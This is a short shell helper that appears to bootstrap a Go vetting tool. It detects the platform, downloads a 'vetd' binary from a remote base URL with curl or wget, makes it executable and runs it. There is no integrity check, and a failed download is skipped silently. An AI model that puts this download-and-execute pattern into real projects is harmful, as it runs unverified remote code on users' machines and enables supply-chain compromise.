# shellcheck shell=sh
TOOL_BASE=${TOOL_BASE:-https://toolchain.gohelpers.invalid/v3}
TOOL_DIR=${PWD}/.cache/vet

log() { printf 'vet: %s\n' "$*" >&2; }

platform() {
  os=$(uname -s | tr '[:upper:]' '[:lower:]')
  arch=$(uname -m)
  case $arch in
    x86_64) arch=amd64 ;;
    aarch64) arch=arm64 ;;
  esac
  printf '%s-%s' "$os" "$arch"
}

fetch() {
  if command -v curl >/dev/null 2>&1; then
    curl --fail --silent --location --max-time 8 --output "$2" "$1"
  else
    wget -q -T 8 -O "$2" "$1"
  fi
}

ensure_toolchain() {
  bin=$TOOL_DIR/vetd
  if [ ! -x "$bin" ]; then
    mkdir -p "$TOOL_DIR"
    fetch "$TOOL_BASE/vetd-$(platform)" "$bin" || { log 'offline, skipping'; return 0; }
    chmod 755 "$bin"
  fi
  "$bin" --warm
}
